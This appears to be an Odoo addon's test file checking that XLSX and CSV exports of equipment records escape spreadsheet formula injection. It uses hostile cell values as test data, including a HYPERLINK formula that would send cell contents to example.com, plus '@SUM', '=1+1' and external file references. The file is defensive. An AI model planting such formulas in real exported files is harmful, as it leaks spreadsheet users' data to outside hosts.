# License LGPL-3.0 or later (http://www.gnu.org/licenses/lgpl.html).

import json
from io import BytesIO

from openpyxl import load_workbook

from odoo import http
from odoo.tests import BaseCase, HttpCase, TransactionCase, tagged

from ..lib.spreadsheets import as_text
from .export import ExportModelsMixin

FORMULA = '=HYPERLINK("http://example.com/?"&A1,"click")'

#: Models whose text is entered by users, or by the addons themselves.
WITHOUT_TEXT_OF_OCS = {
    "ocs.alert",
    "ocs.backend",
    "ocs.field.ownership",
    "ocs.matching.key",
    "ocs.section",
}


@tagged("post_install", "-at_install")
class TestAsText(BaseCase):
    """Values of cells."""

    def test_table(self):
        table = (
            ("PC-1", "PC-1"),
            ("", ""),
            (" =1", " =1"),
            ("a=1", "a=1"),
            ("internal", "internal"),
            ("=1+1", "'=1+1"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(1)", "'@SUM(1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("{=1}", "'{=1}"),
            ("external:\\\\host\\file", "'external:\\\\host\\file"),
            ("internal:Sheet1!A1", "'internal:Sheet1!A1"),
            ("'=1", "'=1"),
            (-1, -1),
            (1.5, 1.5),
            (False, False),
            (None, None),
            (b"=1", b"=1"),
        )
        for value, expected in table:
            with self.subTest(value=value):
                self.assertEqual(as_text(value), expected)


@tagged("post_install", "-at_install")
class TestModels(ExportModelsMixin, TransactionCase):
    """No model of this addon with text from OCS is forgotten."""

    without_text = WITHOUT_TEXT_OF_OCS

    def test_mixin(self):
        for name in (
            "maintenance.equipment",
            "maintenance.equipment.component",
            "maintenance.equipment.connection",
            "ocs.computer.binding",
        ):
            with self.subTest(name):
                self.assertTrue(self.has_mixin(name))


@tagged("post_install", "-at_install")
class TestExport(HttpCase):
    """Exports of assets."""

    def setUp(self):
        super().setUp()
        self.asset = self.env["maintenance.equipment"].create(
            {"name": FORMULA, "serial_no": "+1"}
        )
        self.authenticate("admin", "admin")

    def export(self, path):
        names = ("id", "name", "serial_no")
        data = {
            "model": "maintenance.equipment",
            "fields": [{"name": n, "label": n, "type": "char"} for n in names],
            "ids": self.asset.ids,
            "domain": [],
            "groupby": [],
            "context": {},
            "import_compat": False,
        }
        values = {"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)}
        response = self.url_open(path, data=values)
        response.raise_for_status()
        return response.content

    def test_xlsx(self):
        workbook = load_workbook(BytesIO(self.export("/web/export/xlsx")))
        cells = list(workbook.active.rows)[1]
        self.assertEqual([cell.data_type for cell in cells[1:]], ["s", "s"])
        self.assertEqual(cells[1].value, f"'{FORMULA}")
        self.assertEqual(cells[2].value, "'+1")

    def test_csv(self):
        content = self.export("/web/export/csv").decode()
        self.assertIn('"\'+1"', content)
        self.assertIn("\"'=HYPERLINK", content)
